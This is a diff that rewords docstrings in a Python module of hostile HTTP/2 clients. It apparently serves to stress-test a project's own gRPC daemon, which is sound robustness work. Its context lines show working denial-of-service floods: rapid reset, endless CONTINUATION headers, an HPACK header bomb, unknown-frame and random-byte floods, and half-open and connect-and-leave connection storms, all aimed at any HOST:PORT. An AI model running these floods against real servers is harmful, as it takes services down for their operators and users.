@@ -1,6 +1,6 @@
-"""Clients that abuse HTTP/2 on purpose, each in its own way. They connect again when they are cut.
+"""Clients that abuse HTTP/2 on purpose, each in its own way. They connect again when the daemon cuts them.
 
-As a program: `hostile.py KIND HOST:PORT SECONDS`. Frames and HPACK are of RFC 9113 and RFC 7541.
+Run as a program: `hostile.py KIND HOST:PORT SECONDS`. Frames follow RFC 9113 and header fields (HPACK) follow RFC 7541.
 """
 
 from __future__ import annotations
@@ -17,17 +17,17 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 
-#: What is sent at once, about.
+#: The approximate number of bytes in one piece to send.
 CHUNK = 64 * 1024
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """One frame."""
+    """One HTTP/2 frame."""
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
 def literal(name: str, value: bytes) -> bytes:
-    """A field of HPACK that is not put in the table; both shorter than 127 bytes."""
+    """An HPACK field that does not enter the table. Name and value must be shorter than 127 bytes."""
     return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value
 
 
@@ -44,19 +44,19 @@ START = PREFACE + frame(SETTINGS, 0, 0)
 
 
 def streams() -> Iterator[int]:
-    """Odd numbers, while there are any."""
+    """The stream numbers that a client may use: all odd numbers."""
     return iter(range(1, 1 << 31, 2))
 
 
 def repeated(piece: bytes) -> Iterator[bytes]:
-    """The same, in chunks."""
+    """The same piece again and again, in chunks."""
     chunk = piece * max(1, CHUNK // len(piece))
     while True:
         yield chunk
 
 
 def chunked(pieces: Iterator[bytes]) -> Iterator[bytes]:
-    """Small pieces, in chunks."""
+    """Chunks of 256 small pieces each."""
     while True:
         chunk = b"".join(next(pieces) for _ in range(256))
         yield chunk
@@ -69,7 +69,7 @@ def rapid_reset() -> Iterator[bytes]:
 
 
 def calls_that_fail() -> Iterator[bytes]:
-    """Opens unary calls that end without a message, as quickly as it can, whatever the server says of it."""
+    """Opens unary calls that end without a message, as quickly as it can, and ignores the answers."""
     return chunked(frame(HEADERS, END_HEADERS | END_STREAM, n, CHECK) for n in streams())
 
 
@@ -108,23 +108,23 @@ def _endless_header(piece: int) -> Iterator[bytes]:
 
 
 def continuations() -> Iterator[bytes]:
-    """Sends one header without end, a value of 200 MB, while it has a call."""
+    """Sends one endless header, a value of 200 MB, while it has a call."""
     return _endless_header(16_000)
 
 
 def small_continuations() -> Iterator[bytes]:
-    """Does so in small pieces, for each of which gRPC copies all that came before."""
+    """Sends one endless header in small pieces. For each piece gRPC copies all pieces before it."""
     return _endless_header(100)
 
 
 def many_fields() -> Iterator[bytes]:
-    """Sends headers without end, each a field of its own."""
+    """Sends endless headers, each piece a field of its own."""
     yield frame(HEADERS, 0, 1, CHECK)
     yield from repeated(frame(CONTINUATION, 0, 1, literal("a", b"b")))
 
 
 def header_bombs() -> Iterator[bytes]:
-    """Puts one long field in the table and asks for it 16,000 times in each call."""
+    """Puts one long field in the HPACK table and refers to this field 16,000 times in each call."""
     name = b"x" * 100
     yield frame(
         HEADERS, END_HEADERS | END_STREAM, 1, CHECK + b"\x40" + bytes([100]) + name + b"\x7f\x81\x1e" + b"v" * 3968
@@ -136,13 +136,13 @@ def header_bombs() -> Iterator[bytes]:
 
 
 def garbage() -> Iterator[bytes]:
-    """Sends noise after the settings."""
+    """Sends random bytes after the settings."""
     while True:
         yield os.urandom(CHUNK)
 
 
 def noise() -> Iterator[bytes]:
-    """Sends large frames of a kind that does not exist."""
+    """Sends large frames of a type that does not exist."""
     return repeated(frame(0xBB, 0, 0, b"a" * 16_000))
 
 
@@ -164,7 +164,7 @@ FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
 
 
 def connect(address: tuple[str, int], *, timeout: float = 5) -> socket.socket | None:
-    """A connection, or None when there is none to be had."""
+    """A connection, or None when the daemon cannot be reached."""
     try:
         return socket.create_connection(address, timeout=timeout)
     except OSError:
@@ -172,7 +172,7 @@ def connect(address: tuple[str, int], *, timeout: float = 5) -> socket.socket | 
 
 
 def flood(address: tuple[str, int], kind: str, until: float) -> None:
-    """Sends what `kind` makes, and throws away what comes back, until the time is over."""
+    """Sends the pieces of `kind` and discards the answers until the time `until`, in seconds of the monotonic clock."""
     while time.monotonic() < until:
         connection = connect(address)
         if connection is None:
@@ -203,7 +203,7 @@ def _send_all(connection: socket.socket, pieces: Iterator[bytes], until: float) 
 
 
 def half_open(address: tuple[str, int], until: float, count: int = 3000) -> None:
-    """Holds connections on which it says nothing, and makes new ones for those that end."""
+    """Holds connections on which it sends nothing, and replaces those that the daemon ends."""
     held: list[socket.socket] = []
     while time.monotonic() < until:
         held = [each for each in held if not _has_ended(each)]
@@ -231,7 +231,7 @@ def _has_ended(connection: socket.socket) -> bool:
 
 
 def connects(address: tuple[str, int], until: float, count: int = 10_000) -> None:
-    """Connects so many times, begins with HTTP/2 and leaves, and then again."""
+    """Connects `count` times, sends the HTTP/2 preface and leaves, and repeats this until the time `until`."""
     while time.monotonic() < until:
         for _ in range(count):
             if time.monotonic() >= until:
@@ -246,7 +246,7 @@ KINDS = (*FLOODS, "half-open", "connects")
 
 
 def attack(kind: str, host: str, port: int, seconds: float) -> None:
-    """Does so for a time."""
+    """Abuses the daemon in one way for a number of seconds."""
     until = time.monotonic() + seconds
     if kind == "half-open":
         half_open((host, port), until)
